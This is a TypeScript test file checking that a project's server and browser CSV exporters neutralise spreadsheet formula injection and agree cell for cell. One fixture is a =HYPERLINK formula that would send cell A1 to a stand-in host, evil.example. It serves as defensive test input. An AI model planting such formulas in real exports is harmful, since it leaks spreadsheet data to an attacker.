import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { csvOf } from '../../src/domain/csv.js';
import { neutraliseCsvCell, toCsv } from '../../web/src/lib/calendar.js';

/**
 * Tandem writes CSV on both sides: the server's insights exports (src/domain/csv.ts) and the browser's
 * team-hours export (issue 37), a pivot of the week the page already holds that no endpoint writes (the
 * web may not import the server's domain). No cell may start a formula, and the two writers must agree.
 */
describe('CSV cells cannot start a spreadsheet formula', () => {
  it('prefixes a member named =HYPERLINK(...) with a single quote, quoted as one field', () => {
    const name = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
    const csv = toCsv([
      ['Name', 'Mon'],
      [name, 7.5],
    ]);
    const [, row] = csv.split('\r\n');
    assert.equal(row, `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",7.5`);
  });

  it('defuses every formula lead: =, +, -, @, tab and carriage return; leaves other text and numbers', () => {
    for (const lead of ['=', '+', '-', '@', '\t', '\r']) {
      assert.equal(neutraliseCsvCell(`${lead}1+1`), `'${lead}1+1`, JSON.stringify(lead));
    }
    assert.equal(neutraliseCsvCell('Ada Lovelace'), 'Ada Lovelace');
    assert.equal(neutraliseCsvCell(' =not first'), ' =not first');
    assert.equal(neutraliseCsvCell(-2), '-2');
    assert.equal(neutraliseCsvCell(0), '0');
    assert.equal(toCsv([['@SUM(A1)', '+49 30', 'x']]), "'@SUM(A1),'+49 30,x\r\n");
  });

  it('writes what the server writes, cell for cell', () => {
    const rows: (string | number)[][] = [
      ['Name', 'Kind', 'Total hours'],
      ['=HYPERLINK("x")', 'person', 7.5],
      ['Ada, "the first"', 'agent\nline', -2],
      ['@SUM(A1)', '+49 30', 0],
      ['\tTabbed', '\rReturned', 'plain'],
    ];
    assert.equal(toCsv(rows), csvOf(rows[0] as string[], rows.slice(1)));
  });
});
